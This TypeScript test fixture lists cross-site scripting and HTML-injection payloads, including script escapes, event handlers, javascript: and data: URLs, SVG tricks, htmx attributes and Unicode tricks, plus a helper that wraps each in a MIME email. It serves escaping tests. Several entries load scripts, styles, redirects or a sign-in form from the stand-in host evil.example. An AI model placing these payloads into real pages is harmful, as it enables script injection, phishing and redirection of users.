/** Texts that would run a script, show a dialog, load a file or rearrange a page, if a page did not escape them. */

/** Sets a flag that the tests look for. */
const RUN = 'window.ran=1'

export const HOSTILE: readonly string[] = [
  // Escapes from a text, an attribute, a comment, a title, a script and a style.
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  // Events.
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror="${RUN}">`,
  `" autofocus onfocus="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `x onmouseover=${RUN} `,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<a href=x onclick=${RUN} style=position:fixed;inset:0>x</a>`,
  `<dialog open oncancel=${RUN}>`,
  // Addresses.
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src=//evil.example/x>`,
  // Other languages, templates, and the document itself.
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>*{background:url(//evil.example/)}</style>`,
  `<form action=//evil.example/><button>Sign in</button></form>`,
  `<plaintext>`,
  `<!--`,
  '{{constructor.constructor("window.ran=1")()}}',
  `$\{window.ran=1}`,
  '&lt;script&gt;window.ran=1&lt;/script&gt;&#60;script&#62;',
  // Attributes that htmx reads.
  `<p hx-get=/sign-in hx-trigger=load hx-on:htmx:before:request=${RUN}>`,
  `<hx-partial hx-target=body hx-swap=innerHTML><img src=x onerror=${RUN}></hx-partial>`,
  `</hx-partial><hx-partial hx-target=h1 hx-swap=innerHTML>gone</hx-partial>`,
  // Characters.
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  '\u202etxt.exe\u202d\u2066\u200f',
  '\ufeff\u200b\u2028\u2029<script>window.ran=1</script>',
  '\ud83d\ude00'.repeat(30),
]

/** Composes an email with the text in its subject, as plain text and as HTML. @param fields further lines of its header */
export function mailWith(text: string, fields: readonly string[] = []): string {
  const encoded = (part: string) => Buffer.from(part).toString('base64')
  const part = (type: string) =>
    `--edge\r\nContent-Type: text/${type}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${encoded(text)}\r\n`
  return [
    ...fields,
    `Subject: =?utf-8?B?${encoded(text.slice(0, 400))}?=`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary=edge',
    '',
    `${part('plain')}${part('html')}--edge--`,
    '',
  ].join('\r\n')
}
